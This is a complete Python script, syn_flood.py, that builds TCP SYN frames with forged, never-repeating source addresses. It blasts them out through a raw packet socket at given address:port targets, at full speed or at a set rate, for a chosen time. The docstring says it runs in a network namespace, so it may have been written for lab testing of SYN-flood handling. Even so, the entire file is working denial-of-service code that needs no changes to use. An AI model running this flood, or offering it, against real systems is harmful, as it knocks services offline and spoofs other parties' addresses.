# SPDX-License-Identifier: BSD-3-Clause
"""SYNs from sources that do not exist, none of them twice, as fast as one process can, for some seconds, or longer until
there were at least so many; prints how many. Runs in a namespace:
syn_flood.py INTERFACE DST-MAC SRC-MAC ADDRESS:PORT[,ADDRESS:PORT] SECONDS [A-SECOND [AT-LEAST]]"""

import random
import socket
import struct
import sys
import time

PROGRAM = __file__
FRAMES, BURST = 4096, 64
SUM, SEQ = 14 + 20 + 16, 14 + 20 + 4  # where they stand in a frame


def checksum(b):
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 65535)
    return struct.pack("!H", 65535 - ((s >> 16) + (s & 65535)))


def frame(ethernet, dst, port):
    ends = bytes([100, random.randrange(64, 128), random.randrange(256), random.randrange(1, 255)]) + \
        socket.inet_aton(dst)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + ends
    ip = ip[:10] + checksum(ip) + ip[12:]
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x50, 2, 1024, 0, 0)
    tcp = tcp[:16] + checksum(ends + struct.pack("!HH", 6, 20) + tcp) + tcp[18:]
    return bytearray(ethernet + ip + tcp)


def renew(frames):
    """Other sequence numbers, and checksums as far the other way."""
    for f in frames:
        seq, sum_ = struct.unpack_from("!H", f, SEQ)[0], struct.unpack_from("!H", f, SUM)[0]
        struct.pack_into("!H", f, SEQ, (seq + 1) % 65535)
        struct.pack_into("!H", f, SUM, (sum_ - 1) % 65535)


def main(iface, dst_mac, src_mac, targets, seconds, a_second="0", at_least="0"):
    ethernet = bytes.fromhex(dst_mac) + bytes.fromhex(src_mac) + b"\x08\0"
    targets = [(ip, int(port)) for ip, _, port in (t.partition(":") for t in targets.split(","))]
    frames = [frame(ethernet, *targets[i % len(targets)]) for i in range(FRAMES)]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    n, begin, rate = 0, time.monotonic(), float(a_second)
    while (passed := time.monotonic() - begin) < float(seconds) or n < int(at_least):
        if rate and n > passed * rate:
            time.sleep(0.0005)
            continue
        burst = frames[n % FRAMES:n % FRAMES + BURST]
        for f in burst:
            s.send(f)
        renew(burst)
        n += BURST
    print(n)


if __name__ == "__main__":
    main(*sys.argv[1:])
